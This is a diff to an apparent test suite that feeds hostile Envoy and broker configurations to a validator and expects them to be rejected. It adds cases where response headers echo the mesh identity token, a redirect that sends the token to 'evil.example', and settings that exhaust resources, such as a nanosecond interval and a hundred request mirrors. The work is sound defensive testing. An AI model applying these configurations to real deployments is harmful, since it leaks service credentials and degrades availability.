@@ -4,9 +4,18 @@
  */
 
 import type { ServerResponse } from 'node:http';
+import type { Written } from '../../../packages/agent/test/configuration.ts';
 import { service } from '../../../packages/agent/test/harness.ts';
 import type { HostileArea, HostileInput } from '../area.ts';
-import { type CALLS, openWorkspace, type Seen, type Spoil, tried, type Workspace } from './process.ts';
+import {
+  type CALLS,
+  openWorkspace,
+  type Seen,
+  type Spoil,
+  tried,
+  triedConfiguration,
+  type Workspace,
+} from './process.ts';
 
 const REFUSED = 'agent_broker_answer_invalid';
 const UNREACHABLE = 'agent_broker_unreachable';
@@ -20,6 +29,8 @@ export const brokerToAgent: HostileArea<Workspace> = {
     ...fields(),
     ...credentials(),
     ...bodies(),
+    ...formats(),
+    ...bounds(),
     shortName('a Service that is called like a host of the internet', 'github.com'),
     shortName('a Service that is called like a package registry', 'crates.io'),
     shortName('a Service that is called like an address', '127.1'),
@@ -82,6 +93,13 @@ function fields(): HostileInput<Workspace>[] {
     session('no time between two beats', { heartbeat_seconds: 0 }),
     session('more time between two beats than a timer has', { heartbeat_seconds: 1e12 }),
     session('more grants than a request can name', { grants: Array.from({ length: 40 }, (_, n) => `grant-${n}`) }),
+    session('more held grants than a request can name', {
+      held: Array.from({ length: 40 }, (_, n) => ({
+        grant: `grant-${n}`,
+        spiffe_id: 'spiffe://cluster.local/ns/meshpass-dev/sa/octocat',
+        until: 4_000_000_000,
+      })),
+    }),
     mesh('a token header that frames requests', { token_header: 'content-length' }),
     mesh('a token header of the application', { token_header: 'authorization' }),
     mesh('a token header that routes', { token_header: 'host' }),
@@ -140,6 +158,62 @@ function credentials(): HostileInput<Workspace>[] {
     spoiled('no certificate', 'certificates', 'ca_unavailable', ({ json }) => {
       json.certificates = [];
     }),
+  ];
+}
+
+/** Headers of answers: Envoy writes them after it has added the identity token to the request. */
+function formats(): HostileInput<Workspace>[] {
+  const reads = (fault: string, header: (name: string) => object) =>
+    configured(
+      fault,
+      'may not read the identity token',
+      ({ routes }, name) => {
+        routes[0].response_headers_to_add = [{ header: { key: 'x-answer', ...header(name) } }];
+      },
+      ['x-meshpass-token', 'x-request-id'],
+    );
+  return [
+    reads('a header of answers that reads the identity token', (name) => ({ value: `%REQ(${name})%` })),
+    reads('a header of answers that reads it as an alternative', (name) => ({ value: `%REQ(x-none?${name})%` })),
+    reads('a header of answers that reads it, in raw bytes', (name) => ({
+      raw_value: Buffer.from(`%REQ(${name})%`).toString('base64'),
+    })),
+    configured(
+      'a redirect to a foreign host with the identity token in its address',
+      'may not read the identity token',
+      ({ routes }, name) => {
+        const header = { key: 'location', value: `https://evil.example/?t=%REQ(${name})%` };
+        routes[0].virtual_hosts[0].routes[0] = {
+          match: { prefix: '/' },
+          redirect: { host_redirect: 'evil.example' },
+          response_headers_to_add: [{ header, append_action: 'OVERWRITE_IF_EXISTS_OR_ADD' }],
+        };
+      },
+      ['x-meshpass-token', 'x-request-id'],
+    ),
+  ];
+}
+
+/** Periodic work, and work for each request, without a limit. */
+function bounds(): HostileInput<Workspace>[] {
+  return [
+    configured(
+      'an interval of a nanosecond',
+      'a duration of',
+      ({ clusters }, interval) => {
+        clusters[0].outlier_detection = { interval };
+      },
+      ['0.000000001s', '10s'],
+    ),
+    configured(
+      'a hundred copies of each request',
+      '100 items; at most 8',
+      ({ routes, clusters }, copies) => {
+        const { route } = routes[0].virtual_hosts[0].routes[0];
+        route.request_mirror_policies = Array.from({ length: copies }, () => ({ cluster: clusters[0].name }));
+      },
+      [100, 1],
+    ),
   ];
 }
 
@@ -203,10 +277,23 @@ function shortName(fault: string, short: string): HostileInput<Workspace> {
 
 function spoiled(fault: string, of: keyof typeof CALLS, code: string, spoil: Spoil): HostileInput<Workspace> {
   return {
-    ...{ fault, code },
+    fault,
+    code,
     attack: (workspace) => tried(workspace, of, spoil),
     control: (workspace) => tried(workspace, of, () => {}),
   };
+}
+
+/** @param spoil puts the value into a configuration, @param values the hostile one, and the one without the fault */
+function configured<T>(
+  fault: string,
+  code: string,
+  spoil: (configuration: Written, value: T) => void,
+  [hostile, honest]: readonly [T, T],
+): HostileInput<Workspace> {
+  const tryValue = (value: T) => (workspace: Workspace) =>
+    triedConfiguration(workspace, (configuration) => spoil(configuration, value));
+  return { fault, code, attack: tryValue(hostile), control: tryValue(honest) };
 }
 
 function forever(response: ServerResponse, pauseMs: number, chunk: string): void {
